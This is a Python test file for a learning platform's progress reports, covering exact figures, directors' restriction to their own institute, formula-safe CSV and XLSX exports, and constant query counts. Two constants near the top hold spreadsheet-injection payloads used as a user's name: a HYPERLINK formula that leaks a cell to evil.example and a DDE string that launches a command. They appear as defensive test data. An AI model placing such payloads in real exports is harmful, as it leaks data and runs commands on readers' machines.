"""Progress reports: exact figures on a constructed network, directors confined to their institute, safe exports,
and a query count that does not grow with the data."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from types import SimpleNamespace
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from babel.dates import format_datetime
from sqlalchemy import select, text

from courses.models import CompletionSource, Enrolment, EnrolmentStatus, LessonCompletion
from courses.reports import Grouping, ReportFilters, report_page, report_rows, totals
from courses.revisions import draft_for, publish
from sonores_lms.permissions import Role

EVIL_FIRST = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
EVIL_LAST = "+cmd|' /C calc'!A0"


def _lessons(course):
    return [lesson for module in course.modules for lesson in module.lessons]


def _enrol(db, user, course, status, *, done_at=None):
    enrolment = Enrolment(user_id=user.id, course_uid=course.uid, status=status)
    if status is EnrolmentStatus.COMPLETED:
        enrolment.completed_at = done_at or datetime(2027, 2, 1, tzinfo=UTC)
    db.session.add(enrolment)
    return enrolment


def _complete(db, user, course, lesson, when):
    db.session.add(
        LessonCompletion(
            user_id=user.id,
            lesson_uid=lesson.uid,
            course_uid=course.uid,
            source=CompletionSource.MANUAL,
            completed_at=when,
        )
    )


def _keep_last_activity(db):
    """What the learning area keeps on each enrolment (and migration 0004 backfilled): its latest completion."""
    db.session.flush()
    db.session.execute(
        text(
            "UPDATE courses_enrolments SET last_activity_at = (SELECT max(c.completed_at)"
            " FROM courses_lesson_completions c WHERE c.user_id = courses_enrolments.user_id"
            " AND c.course_uid = courses_enrolments.course_uid)"
        )
    )
    db.session.expire_all()


@pytest.fixture
def network(db, make_plan, create_institute, create_user):
    """Two institutes in two countries, five people, two courses of the 2027 plan and one course of 2026.

    course 1: alice done, bob in progress, dan done, carol withdrawn (not counted)
    course 2: alice in progress, eve (no institute) in progress
    """
    old = make_plan(2026, courses=1)
    plan = make_plan(2027, courses=2)
    course1, course2 = plan.axes[0].tracks[0].courses
    jacmel = create_institute(name="Alliance Française de Jacmel", city="Jacmel", country="HT")
    merida = create_institute(name="Alliance Française de Mérida", city="Mérida", country="MX")
    alice = create_user(
        "alice@example.org", first_name=EVIL_FIRST, last_name=EVIL_LAST, institute_id=jacmel.id, roles=["staff"]
    )
    bob = create_user(
        "bob@example.org", first_name="Bob", last_name="Bernard", institute_id=jacmel.id, roles=["trainer"]
    )
    carol = create_user("carol@example.org", first_name="Carol", last_name="Charles", institute_id=jacmel.id)
    dan = create_user("dan@example.org", first_name="Dan", last_name="Durand", institute_id=merida.id)
    eve = create_user("eve@example.org", first_name="Eve", last_name="Évariste")
    _enrol(db, alice, course1, EnrolmentStatus.COMPLETED)
    _enrol(db, alice, course2, EnrolmentStatus.ACTIVE)
    _enrol(db, bob, course1, EnrolmentStatus.ACTIVE)
    _enrol(db, carol, course1, EnrolmentStatus.WITHDRAWN)
    _enrol(db, dan, course1, EnrolmentStatus.COMPLETED)
    _enrol(db, eve, course2, EnrolmentStatus.ACTIVE)
    _enrol(db, alice, old.axes[0].tracks[0].courses[0], EnrolmentStatus.ACTIVE)  # another year: not counted
    _complete(db, alice, course1, _lessons(course1)[0], datetime(2027, 3, 1, 12, 0, tzinfo=UTC))
    _complete(db, alice, course2, _lessons(course2)[0], datetime(2027, 3, 4, 2, 30, tzinfo=UTC))  # her latest
    _complete(db, bob, course1, _lessons(course1)[0], datetime(2027, 2, 10, 9, 0, tzinfo=UTC))
    _complete(db, carol, course1, _lessons(course1)[1], datetime(2027, 5, 1, 9, 0, tzinfo=UTC))  # withdrawn
    _keep_last_activity(db)
    return SimpleNamespace(
        plan=plan, old=old, course1=course1, course2=course2, jacmel=jacmel, merida=merida,
        alice=alice, bob=bob, carol=carol, dan=dan, eve=eve,
    )  # fmt: skip


def figures(row):
    f = row.figures
    return (f.enrolled, f.in_progress, f.done, f.percent_done)


def test_figures_by_course_institute_country_axis_and_person(network, db):
    n = network
    by_course = {row.key: figures(row) for row in report_rows(n.plan, Grouping.COURSES, ReportFilters())}
    assert by_course == {n.course1.uid: (3, 1, 2, 66.7), n.course2.uid: (2, 2, 0, 0.0)}

    by_institute = {
        row.key: (row.figures.people, *figures(row))
        for row in report_rows(n.plan, Grouping.INSTITUTES, ReportFilters())
    }
    assert by_institute == {n.jacmel.id: (2, 3, 2, 1, 33.3), n.merida.id: (1, 1, 0, 1, 100.0), None: (1, 1, 1, 0, 0.0)}

    by_country = {
        row.key: (row.figures.people, *figures(row)) for row in report_rows(n.plan, Grouping.COUNTRIES, ReportFilters())
    }
    assert by_country == {"HT": (2, 3, 2, 1, 33.3), "MX": (1, 1, 0, 1, 100.0), None: (1, 1, 1, 0, 0.0)}

    (axis,) = report_rows(n.plan, Grouping.AXES, ReportFilters())
    assert (axis.figures.people, *figures(axis)) == (4, 5, 3, 2, 40.0)

    people = {row.key: row for row in report_rows(n.plan, Grouping.PEOPLE, ReportFilters())}
    assert set(people) == {n.alice.id, n.bob.id, n.dan.id, n.eve.id}  # carol withdrew
    assert figures(people[n.alice.id]) == (2, 1, 1, 50.0)
    assert people[n.alice.id].figures.last_activity == datetime(2027, 3, 4, 2, 30, tzinfo=UTC)
    assert people[n.dan.id].figures.last_activity is None

    total = totals(n.plan, ReportFilters())
    assert (total.people, total.enrolled, total.in_progress, total.done) == (4, 5, 3, 2)
    assert total.last_activity == datetime(2027, 3, 4, 2, 30, tzinfo=UTC)


def test_filters_narrow_the_figures(network, db):
    n = network
    trainers = report_rows(n.plan, Grouping.PEOPLE, ReportFilters(role=Role.TRAINER))
    assert [row.key for row in trainers] == [n.bob.id]
    mexico = report_rows(n.plan, Grouping.COURSES, ReportFilters(country="MX"))
    assert [figures(row) for row in mexico] == [(1, 0, 1, 100.0), (0, 0, 0, None)]
    second = report_rows(n.plan, Grouping.PEOPLE, ReportFilters(course_uid=n.course2.uid))
    assert {row.key for row in second} == {n.alice.id, n.eve.id}
    track = n.plan.axes[0].tracks[0]
    assert totals(n.plan, ReportFilters(track_uid=track.uid, institute_id=n.jacmel.id)).enrolled == 3
    assert totals(n.plan, ReportFilters(axis_uid="no-such-axis")).enrolled == 0
    assert totals(n.old, ReportFilters()).enrolled == 1  # the 2026 plan has its own figures


def test_the_page_shows_figures_and_last_activity_in_the_readers_language_and_zone(network, client_as):
    client = client_as("admin", locale="es", timezone="America/Mexico_City")
    page = client.get("/courses/reports/people?year=2027").get_data(as_text=True)
    assert "Bernard" in page and "Durand" in page and "Charles" not in page
    latest = datetime(2027, 3, 4, 2, 30, tzinfo=UTC)
    shown = format_datetime(latest, "short", tzinfo=ZoneInfo("America/Mexico_City"), locale="es")
    assert shown in page and "20:30" in shown  # 2:30 UTC is 20:30 the day before in Mexico City
    assert "&#34;http://evil.example" in page or "&quot;http://evil.example" in page  # escaped, not a link


def test_other_groupings_render_and_an_unknown_one_is_404(network, admin_client):
    for by in ("courses", "institutes", "countries", "axes"):
        response = admin_client.get(f"/courses/reports/{by}")
        assert response.status_code == 200, by
    page = admin_client.get("/courses/reports/institutes").get_data(as_text=True)
    assert "Alliance Française de Mérida" in page
    assert admin_client.get("/courses/reports/planets").status_code == 404


def test_staff_and_trainers_may_not_see_reports(network, client_as):
    for role in ("staff", "trainer", "auditor"):
        client = client_as(role)
        for url in ("/courses/reports/", "/courses/reports/people.csv", "/courses/reports/people.xlsx"):
            assert client.get(url).status_code == 403, (role, url)


@pytest.fixture
def director(network, client_as):
    return client_as(("admin", network.jacmel.id), institute_id=network.jacmel.id)


def test_a_director_sees_only_their_institute(network, director):
    page = director.get("/courses/reports/people").get_data(as_text=True)
    assert "Bernard" in page and "Durand" not in page and "Évariste" not in page
    page = director.get("/courses/reports/institutes").get_data(as_text=True)
    assert "Jacmel" in page and "Mérida" not in page
    countries = director.get("/courses/reports/countries").get_data(as_text=True)
    assert "Mexico" not in countries and "Haiti" in countries


def test_a_director_asking_for_another_institute_is_refused_everywhere(network, director):
    other = network.merida.id
    for url in ("/courses/reports/people", "/courses/reports/people.csv", "/courses/reports/institutes.xlsx"):
        assert director.get(f"{url}?institute={other}").status_code == 403, url
    # Another country is not a choice for them: the page shows nothing and the exports are refused.
    page = director.get("/courses/reports/people?country=MX").get_data(as_text=True)
    assert "Durand" not in page and "Bernard" not in page
    assert director.get("/courses/reports/people.csv?country=MX").status_code == 400


def test_a_directors_exports_hold_only_their_institute(network, director):
    body = director.get("/courses/reports/people.csv").get_data(as_text=True)
    assert "bob@example.org" in body and "dan@example.org" not in body and "eve@example.org" not in body
    book = openpyxl.load_workbook(io.BytesIO(director.get("/courses/reports/people.xlsx").get_data()))
    emails = [row[2] for row in book.active.iter_rows(min_row=2, values_only=True)]
    assert sorted(emails) == ["alice@example.org", "bob@example.org"]


@pytest.fixture
def admin_client(client_as):
    return client_as("admin", timezone="UTC")


def test_csv_export_is_utf8_with_bom_and_neutralises_formulas(network, admin_client):
    response = admin_client.get("/courses/reports/people.csv?year=2027")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == 'attachment; filename="sonores-progress-2027-people.csv"'
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    header, *lines = rows
    assert header[:5] == ["Last name", "First name", "Email", "Institute", "Country"]
    alice = next(line for line in lines if line[2] == "alice@example.org")
    assert alice[0] == "'" + EVIL_LAST and alice[1] == "'" + EVIL_FIRST
    assert alice[5:9] == ["2", "1", "1", "50.0"]
    assert alice[9].startswith("2027-03-04T02:30:00")  # the reader's zone is UTC
    eve = next(line for line in lines if line[2] == "eve@example.org")
    assert eve[1:4] == ["Eve", "eve@example.org", "No institute"] and eve[0] == "Évariste"
    for line in lines:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in line)


def test_xlsx_export_has_typed_cells_and_neutralises_formulas(network, admin_client):
    response = admin_client.get("/courses/reports/people.xlsx?year=2027")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == 'attachment; filename="sonores-progress-2027-people.xlsx"'
    book = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    assert len(book.worksheets) == 1
    sheet = book.active
    header = [cell.value for cell in sheet[1]]
    assert header[:3] == ["Last name", "First name", "Email"] and header[-1] == "Last activity (UTC)"
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.column_dimensions["C"].width > 20
    rows = {row[2].value: row for row in sheet.iter_rows(min_row=2)}
    alice = rows["alice@example.org"]
    assert alice[0].value == "'" + EVIL_LAST and alice[1].value == "'" + EVIL_FIRST
    assert alice[0].data_type == "s" and alice[1].data_type == "s"  # text, never a formula
    assert [alice[i].value for i in (5, 6, 7)] == [2, 1, 1]
    assert alice[8].value == pytest.approx(0.5) and "%" in alice[8].number_format
    assert alice[9].value == datetime(2027, 3, 4, 2, 30) and alice[9].is_date
    for row in sheet.iter_rows(min_row=1):
        for cell in row:
            assert cell.data_type != "f"
            assert not (isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")))


def test_xlsx_institutes_export_is_named_by_grouping(network, admin_client):
    response = admin_client.get("/courses/reports/institutes.xlsx?year=2027")
    assert response.headers["Content-Disposition"] == 'attachment; filename="sonores-progress-2027-institutes.xlsx"'
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
    values = {row[0]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert values["Alliance Française de Jacmel"][3:7] == (2, 3, 2, 1)


def _grow(db, network, create_user, count):
    """``count`` more people in each institute, each enrolled in both courses with a completion."""
    n = network
    for i in range(count):
        for institute in (n.jacmel, n.merida):
            person = create_user(institute_id=institute.id, password=None)
            _enrol(db, person, n.course1, EnrolmentStatus.COMPLETED)
            _enrol(db, person, n.course2, EnrolmentStatus.ACTIVE)
            _complete(db, person, n.course1, _lessons(n.course1)[i % 3], datetime(2027, 4, 1, tzinfo=UTC))
    db.session.flush()


URLS = [f"/courses/reports/{g.value}" for g in Grouping] + [
    "/courses/reports/people?page=2",
    "/courses/reports/people.csv",
    "/courses/reports/institutes.xlsx",
    "/courses/reports/courses?role=staff&country=HT",
]


def test_query_count_does_not_grow_with_the_data(network, db, admin_client, create_user, count_queries):
    def measure():
        counts = {}
        for url in URLS:
            with count_queries() as counted:
                response = admin_client.get(url)
                assert response.status_code == 200, url
                response.close()
            counts[url] = counted.count
        return counts

    measure()  # warm-up: settings, translations, the plan's outline
    _grow(db, network, create_user, 3)
    small = measure()
    _grow(db, network, create_user, 40)
    large = measure()
    assert small == large
    assert max(large.values()) < 15, large


def test_a_newly_published_revision_is_read_afresh(network, db, admin_client, dummy_user):
    """The plan's outline is kept in memory, per revision: publishing a new one shows its titles at once."""
    page = admin_client.get("/courses/reports/courses?year=2027").get_data(as_text=True)
    assert "Cours 1" in page and "Cours renommé" not in page
    draft = draft_for(network.plan, actor=dummy_user)
    draft.axes[0].tracks[0].courses[0].set_texts("fr", {"title": "Cours renommé", "summary": "Résumé"})
    publish(draft, actor=dummy_user)
    db.session.flush()
    page = admin_client.get("/courses/reports/courses?year=2027").get_data(as_text=True)
    assert "Cours renommé" in page and ">Cours 1<" not in page


def test_the_admin_navigation_offers_the_reports_to_those_who_may_see_them(network, admin_client, director, client_as):
    for client in (admin_client, director):
        page = client.get("/dashboard").get_data(as_text=True)
        assert 'href="/courses/reports/"' in page and "Progress reports" in page
    assert 'href="/courses/reports/"' not in client_as("staff").get("/dashboard").get_data(as_text=True)


@pytest.mark.parametrize("grouping", [Grouping.PEOPLE, Grouping.INSTITUTES, Grouping.COUNTRIES])
def test_pages_fetch_their_groups_first_and_match_the_full_report(network, db, monkeypatch, grouping):
    """Page by page (two rows a page), people and institutes (people without an institute last) hold the same rows
    as the export; the totals count the people, and institutes and countries are counted from their keys."""
    monkeypatch.setattr("courses.reports.PER_PAGE", 2)
    n = network
    for filters in (ReportFilters(), ReportFilters(country="HT"), ReportFilters(role=Role.TRAINER)):
        expected = [(row.key, row.labels, row.figures) for row in report_rows(n.plan, grouping, filters)]
        total = totals(n.plan, filters, grouping)
        assert total.groups == (len(expected) if grouping is Grouping.PEOPLE else None)
        seen = []
        for number in range(1, (len(expected) + 1) // 2 + 1):
            page = report_page(n.plan, grouping, filters, page=number, total=total.groups)
            seen.extend((row.key, row.labels, row.figures) for row in page.items)
            assert report_page(n.plan, grouping, filters, page=number).total == len(expected)
        assert seen == expected, filters
    if grouping is Grouping.INSTITUTES:
        assert [key for key, _labels, _figures in seen] == [n.jacmel.id]  # role=trainer: bob only
        keys = [row.key for row in report_rows(n.plan, grouping, ReportFilters())]
        assert keys == [n.jacmel.id, n.merida.id, None]


def test_completing_a_lesson_keeps_the_enrolments_last_activity(db, make_plan, create_user):
    from courses.learning import complete_lesson, enrol

    plan = make_plan(2027, courses=2)
    course1, course2 = plan.axes[0].tracks[0].courses
    user = create_user("learner@example.org")
    enrolment = enrol(user, course1, actor=user)
    assert enrolment.last_activity_at is None
    first = complete_lesson(user, _lessons(course1)[0])
    assert enrolment.last_activity_at == first.completed_at
    complete_lesson(user, _lessons(course1)[0])  # again: nothing new
    assert enrolment.last_activity_at == first.completed_at
    second = complete_lesson(user, _lessons(course2)[0])  # enrols implicitly
    started = db.session.scalars(
        select(Enrolment).where(Enrolment.user_id == user.id, Enrolment.course_uid == course2.uid)
    ).one()
    assert started.last_activity_at == second.completed_at
    row = {r.key: r for r in report_rows(plan, Grouping.COURSES, ReportFilters())}[course2.uid]
    assert row.figures.last_activity == second.completed_at


def _options(page, name):
    """The option values of the select ``name`` on ``page``."""
    select_html = re.search(rf'<select[^>]*name="{name}"[^>]*>(.*?)</select>', page, re.S).group(1)
    return re.findall(r'<option[^>]*value="([^"]*)"', select_html)


def test_filter_selects_list_one_country_and_one_track_when_there_are_many(network, admin_client, monkeypatch):
    n = network
    track = n.plan.axes[0].tracks[0]
    ids = lambda *institutes: ["", *(str(i.id) for i in institutes)]  # noqa: E731
    page = admin_client.get("/courses/reports/").get_data(as_text=True)  # few: every institute and course
    assert _options(page, "institute") == ids(n.jacmel, n.merida)
    assert _options(page, "course") == ["", n.course1.uid, n.course2.uid]
    assert "Choose a country to list its institutes." not in page

    monkeypatch.setattr("sonores_lms.institutes.choices.MAX_LISTED", 1)
    monkeypatch.setattr("courses.report_forms.MAX_COURSES_LISTED", 1)
    page = admin_client.get("/courses/reports/").get_data(as_text=True)
    assert _options(page, "institute") == [""] and _options(page, "course") == [""]
    assert "Choose a country to list its institutes." in page and "Choose a track to list its courses." in page
    page = admin_client.get("/courses/reports/?country=MX").get_data(as_text=True)
    assert _options(page, "institute") == ids(n.merida)
    page = admin_client.get(f"/courses/reports/?track={track.uid}").get_data(as_text=True)
    assert _options(page, "course") == ["", n.course1.uid, n.course2.uid]
    # Links to one institute or one course keep working: the chosen one stays a choice.
    response = admin_client.get(f"/courses/reports/people?institute={n.jacmel.id}&course={n.course1.uid}")
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert _options(page, "institute") == ids(n.jacmel) and _options(page, "course") == ["", n.course1.uid]
    assert "Bernard" in page and "Durand" not in page
